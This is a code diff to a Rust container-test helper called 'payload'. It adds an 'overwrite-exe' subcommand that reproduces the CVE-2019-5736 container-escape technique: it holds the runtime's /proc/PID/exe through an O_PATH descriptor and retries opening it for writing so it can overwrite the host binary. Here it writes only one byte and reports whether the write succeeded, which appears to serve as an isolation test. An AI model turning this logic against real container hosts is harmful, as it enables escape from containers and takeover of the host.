@@ -162,6 +162,51 @@ fn run(args: &[String]) -> Result<(), String> {
                 println!("ok");
             }
         }
+        // CVE-2019-5736 from inside: hold /proc/PID/exe by an O_PATH fd,
+        // then for up to S seconds try to reopen it for writing (the runtime
+        // leaves once the container starts) and overwrite its first byte.
+        // Prints "link <target>", then "wrote" (exit 3) or why it could not.
+        "overwrite-exe" => {
+            use std::os::fd::AsRawFd;
+            use std::os::unix::fs::{FileExt, OpenOptionsExt};
+            let secs: f64 = arg(2).parse().map_err(|_| "overwrite-exe: need seconds")?;
+            let held = std::fs::OpenOptions::new()
+                .read(true)
+                .custom_flags(libc::O_PATH)
+                .open(arg(1))
+                .map_err(|e| format!("open O_PATH {}: {e}", arg(1)))?;
+            let link = std::fs::read_link(arg(1)).map_err(|e| e.to_string())?;
+            println!("link {}", link.display());
+            let _ = std::io::stdout().flush();
+            let via = format!("/proc/self/fd/{}", held.as_raw_fd());
+            let start = std::time::Instant::now();
+            let mut last = String::new();
+            while start.elapsed().as_secs_f64() < secs {
+                match std::fs::OpenOptions::new().write(true).open(&via) {
+                    Ok(f) => match f.write_at(b"x", 0) {
+                        Ok(_) => {
+                            println!("wrote");
+                            let _ = std::io::stdout().flush();
+                            std::process::exit(3);
+                        }
+                        Err(e) => {
+                            println!("opened for writing; write refused: {e}");
+                            return Ok(());
+                        }
+                    },
+                    Err(e) => {
+                        let msg = format!("open for writing refused: {e}");
+                        if msg != last {
+                            println!("{msg}");
+                            let _ = std::io::stdout().flush();
+                            last = msg;
+                        }
+                    }
+                }
+                std::thread::sleep(std::time::Duration::from_millis(20));
+            }
+            println!("gave up");
+        }
         "umask" => {
             // SAFETY: umask is always safe; set it back right away.
             let m = unsafe { libc::umask(0) };
@@ -169,7 +214,7 @@ fn run(args: &[String]) -> Result<(), String> {
             println!("{m:04o}");
         }
         _ => {
-            eprintln!("usage: payload pid|ppid|id|cwd|env|hostname|domainname|status|cat F|exists F|write F DATA|readlink F|fds|rlimit NAME|exit N|sleep S|count|memhog MB|forks N|spin S|wait-signal|syscall NAME|umask");
+            eprintln!("usage: payload pid|ppid|id|cwd|env|hostname|domainname|status|cat F|exists F|write F DATA|readlink F|fds|rlimit NAME|exit N|sleep S|count|memhog MB|forks N|spin S|wait-signal|syscall NAME|umask|overwrite-exe PATH S");
             std::process::exit(2);
         }
     }
